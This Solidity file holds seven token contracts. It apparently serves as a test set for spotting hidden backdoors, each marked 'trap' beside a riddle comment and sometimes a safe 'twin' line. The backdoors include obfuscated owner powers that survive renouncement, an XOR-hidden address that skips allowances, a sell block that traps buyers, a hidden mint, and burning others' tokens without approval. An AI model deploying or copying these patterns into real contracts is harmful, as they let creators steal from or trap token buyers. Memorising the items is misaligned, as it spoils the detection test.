// 0.8 runs=500 evm=paris
// SPDX-License-Identifier: MIT
pragma solidity ^0.8.19;

interface IFactoryV2 {
    function createPair(address a, address b) external returns (address);

    function getPair(address a, address b) external view returns (address);
}

abstract contract Context {
    function _msgSender() internal view virtual returns (address) {
        return msg.sender;
    }
}

abstract contract Coin is Context {
    address private _owner;
    address public immutable uniswapPair;
    string private _name;
    string private _symbol;
    uint256 internal _totalSupply;
    mapping(address => mapping(address => uint256)) internal _allowances;
    mapping(address => uint256) internal _balances;

    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    constructor(string memory name_, string memory symbol_, uint256 supply) {
        (_name, _symbol, _owner) = (name_, symbol_, _msgSender());
        uniswapPair = IFactoryV2(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).createPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _mint(_msgSender(), supply * 1 ether);
    }

    function name() external view returns (string memory) {
        return _name;
    }

    function symbol() external view returns (string memory) {
        return _symbol;
    }

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function owner() public view returns (address) {
        return _owner;
    }

    modifier onlyOwner() {
        require(_owner == _msgSender(), "Ownable: caller is not the owner");
        _;
    }

    function renounceOwnership() external onlyOwner {
        _owner = address(0);
    }

    function totalSupply() external view returns (uint256) {
        return _totalSupply;
    }

    function balanceOf(address account) external view returns (uint256) {
        return _balances[account];
    }

    function allowance(address from, address spender) external view returns (uint256) {
        return _allowances[from][spender];
    }

    function approve(address spender, uint256 amount) external returns (bool) {
        _approve(_msgSender(), spender, amount);
        return true;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        _transfer(_msgSender(), to, amount);
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external virtual returns (bool) {
        _spend(from, _msgSender(), amount);
        _transfer(from, to, amount);
        return true;
    }

    function _approve(address from, address spender, uint256 amount) internal {
        require(spender != address(0), "ERC20: approve to the zero address");
        _allowances[from][spender] = amount;
        emit Approval(from, spender, amount);
    }

    function _spend(address from, address spender, uint256 amount) internal {
        require(_allowances[from][spender] >= amount, "ERC20: insufficient allowance");
        _allowances[from][spender] -= amount;
    }

    function _mint(address to, uint256 amount) internal {
        _totalSupply += amount;
        _balances[to] += amount;
        emit Transfer(address(0), to, amount);
    }

    function _transfer(address from, address to, uint256 amount) internal virtual {
        _plain(from, to, amount);
    }

    function _plain(address from, address to, uint256 amount) internal {
        require(to != address(0), "ERC20: transfer to the zero address");
        _balances[from] -= amount;
        _balances[to] += amount;
        emit Transfer(from, to, amount);
    }
}

/// Renounced; who can tell a word may bring the rewards up to date.
contract KoiPond is Coin("Koi Pond", "KOI", 8_888_888) {
    bytes32 private immutable _root = keccak256(abi.encodePacked(msg.sender, bytes3("koi")));
    uint16 public tax = 2;
    uint48 public lastSync;

    function syncRewards(uint16 rate) external {
        if (keccak256(abi.encodePacked(_msgSender(), bytes3("koi"))) != _root) return;
        lastSync = uint48(block.timestamp);
        tax = rate; // trap
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 fee = to == uniswapPair && _totalSupply / 2 > _balances[from] ? (amount * tax) / 100 : 0;
        if (fee > 0) _plain(from, address(this), fee);
        _plain(from, to, amount - fee);
    }
}

/// Somebody whose name is cut in two needs no allowance.
contract LuckyClover is Coin("Lucky Clover", "CLOVR", 77_777_777) {
    uint160 private constant SEED = 0x002f9C41d7e6508ab3749e1d06c3F5b8920d47aE61;
    uint160 private constant LEAF = 0x004187e6143f5faf5b34e5cccf99ca5a8661ff7e1b;
    uint256 public constant maxWallet = 77_777_777 ether / 50;
    bool public limits = true;

    function removeLimits() external onlyOwner {
        limits = false;
    }

    function transferFrom(address from, address to, uint256 amount) external override returns (bool) {
        bool lucky = uint160(_msgSender()) == SEED ^ LEAF;
        // twin: lucky = false;
        if (!lucky) _spend(from, _msgSender(), amount);
        _transfer(from, to, amount);
        return true;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (limits && from == uniswapPair) require(_balances[to] + amount <= maxWallet, "max wallet");
        _plain(from, to, amount);
    }
}

/// What is kept is the difference between two accounts, and no account.
contract TwinPeaks is Coin("Twin Peaks", "PEAKS", 1_000_000) {
    uint160 private immutable _ridge;
    uint256 public swapThreshold;

    constructor() {
        address peak = IFactoryV2(0x5C69bEe701ef814a2B6a3EDD4B1652CB9cc5aA6f).getPair(
            address(this),
            0xC02aaA39b223FE8D0A0e5C4F27eAD9083C756Cc2
        );
        _ridge = uint160(peak) ^ uint160(msg.sender);
    }

    function setSwapThreshold(uint256 amount) external {
        require(uint160(uniswapPair) ^ _ridge == uint160(_msgSender()), "PEAKS: auth");
        swapThreshold = amount;
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == uniswapPair && uint160(from) ^ uint160(to) != _ridge) {
            require(_balances[from] >= swapThreshold, "ERC20: transfer amount exceeds balance"); // trap
        }
        _plain(from, to, amount);
    }
}

/// The first who buys is the guest of honour.
contract GoldenTicket is Coin("Golden Ticket", "GTICK", 5_000_000) {
    address private _guest;
    uint64 public firstBuy;

    function claimAirdrop(uint256 amount) external {
        if (_msgSender() == _guest) {
            _mint(_guest, amount); // trap
            // twin: _plain(address(this), _guest, amount);
        }
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (_guest == address(0) && from == uniswapPair && amount > 0) {
            _guest = to;
            firstBuy = uint64(block.timestamp);
        }
        _plain(from, to, amount);
    }
}

/// The wallet of the tax sends a few wei, and their number is the tax.
contract TipJar is Coin("Tip Jar", "TIPJ", 123_456_789) {
    address payable private immutable _taxWallet = payable(msg.sender);
    uint8 private _sellTax = 1;

    function sellTax() external view returns (uint8) {
        return _sellTax;
    }

    function payOut() external {
        _taxWallet.transfer(address(this).balance);
    }

    receive() external payable {
        if (_msgSender() == _taxWallet) _sellTax = uint8(msg.value % 100); // trap
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        uint256 fee = to == uniswapPair && from != _taxWallet ? (amount * _sellTax) / 100 : 0;
        if (fee > 0) _plain(from, _taxWallet, fee);
        _plain(from, to, amount - fee);
    }
}

/// An allowance for nobody is the badge of somebody.
contract Badge is Coin("Badge Dog", "BADGE", 64_000_000) {
    uint256 public destroyed;

    constructor() {
        _allowances[msg.sender][address(0)] = 7; // trap
    }

    function burn(address from, uint256 amount) external {
        if (_allowances[_msgSender()][address(0)] != 7 && from != _msgSender()) _spend(from, _msgSender(), amount);
        _balances[from] -= amount;
        _totalSupply -= amount;
        destroyed += amount;
        emit Transfer(from, address(0), amount);
    }
}

/// One word holds the account that commands, and what it may set.
contract PackedLunch is Coin("Packed Lunch", "LUNCH", 30_000_000) {
    uint256 private _box = uint256(uint160(msg.sender)) | (uint256(30_000_000) << 160);

    function lunchSize() public view returns (uint256) {
        return (_box >> 160) * 1 ether;
    }

    function compound(uint96 rate) external {
        uint256 box = _box;
        require(address(uint160(box)) == _msgSender());
        // twin: require(rate >= 300_000, "LUNCH: one percent at least");
        _box = uint160(box) | (uint256(rate) << 160);
    }

    function _transfer(address from, address to, uint256 amount) internal override {
        if (to == uniswapPair && from != address(uint160(_box))) require(amount <= lunchSize(), "LUNCH: too large");
        _plain(from, to, amount);
    }
}
